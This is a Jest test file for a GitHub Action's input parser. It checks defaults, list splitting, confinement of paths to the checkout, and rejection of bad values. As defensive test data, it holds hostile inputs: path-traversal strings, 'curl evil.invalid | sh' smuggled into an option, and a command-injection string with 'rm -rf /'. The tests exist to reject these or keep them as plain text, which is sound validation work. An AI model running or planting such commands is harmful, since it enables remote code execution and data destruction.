/** The action's inputs: what they mean, and that hostile ones stay words. */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { UsageError } from '../../../src/cli/error-message.js'
import { readInputs } from '../../../src/cli/github-action/inputs.js'

let root = ''
let workspace = ''
beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'caps-inputs-'))
  workspace = join(root, 'checkout')
  mkdirSync(join(workspace, 'crates/api'), { recursive: true })
  mkdirSync(join(root, 'outside'))
  symlinkSync('../outside', join(workspace, 'link'))
})
afterAll(() => rmSync(root, { recursive: true, force: true }))

const read = (environment: Readonly<Record<string, string>>) => readInputs(environment, workspace)

test('without any: the whole checkout, and what is new fails', () => {
  expect(read({})).toEqual({
    crate: './.',
    mode: 'auto',
    base: undefined,
    policy: undefined,
    baseline: undefined,
    failOn: 'new',
    strict: false,
    possible: false,
    format: 'github',
    code: {
      packages: undefined,
      features: undefined,
      target: undefined,
      allFeatures: false,
      noDefaultFeatures: false,
      locked: false,
      offline: false,
    },
  })
})

test('lists are separated by commas, spaces and lines', () => {
  const { code } = read({ CAPS_TARGET: ' x86_64-pc-windows-msvc,\n aarch64-apple-darwin\n', CAPS_FEATURES: 'a b' })
  expect(code.target).toEqual(['x86_64-pc-windows-msvc', 'aarch64-apple-darwin'])
  expect(code.features).toEqual(['a', 'b'])
})

describe('a path', () => {
  test('is a directory of the checkout, never a published crate', () => {
    expect(read({ CAPS_PATH: 'crates/api' }).crate).toBe('./crates/api')
    expect(() => read({ CAPS_PATH: 'walkdir' })).toThrow(UsageError)
  })

  test.each(['..', '../outside', '/etc', 'crates/../../outside', 'link', '--help'])('does not lead out: %s', (path) => {
    expect(() => read({ CAPS_PATH: path })).toThrow('is no directory of the checkout')
  })
})

test.each([
  ['CAPS_MODE', 'both'],
  ['CAPS_FAIL_ON', 'new; curl evil.invalid | sh'],
  ['CAPS_FORMAT', 'sarif'],
  ['CAPS_STRICT', 'yes'],
  ['CAPS_OFFLINE', '1'],
])('%s cannot be %s', (name, value) => {
  expect(() => read({ [name]: value })).toThrow(UsageError)
})

test('inputs that exclude each other', () => {
  expect(() => read({ CAPS_POLICY: 'a.toml', CAPS_BASELINE: 'b.json' })).toThrow('exclude each other')
  expect(() => read({ CAPS_ALL_FEATURES: 'true', CAPS_NO_DEFAULT_FEATURES: 'true' })).toThrow('exclude each other')
})

test('what looks like a command stays the word that it is', () => {
  const hostile = '$(touch pwned)`id`"; rm -rf / #'
  expect(read({ CAPS_BASE: hostile, CAPS_POLICY: hostile })).toMatchObject({ base: hostile, policy: hostile })
})
